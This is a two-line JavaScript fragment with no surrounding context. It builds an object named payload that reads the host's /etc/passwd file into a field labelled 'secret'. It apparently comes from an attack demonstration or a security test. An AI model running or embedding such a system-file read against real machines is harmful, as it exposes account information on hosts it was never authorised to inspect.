const fs = require("fs");
payload = [{ variable: "secret", value: fs.readFileSync("/etc/passwd", "utf8") }];
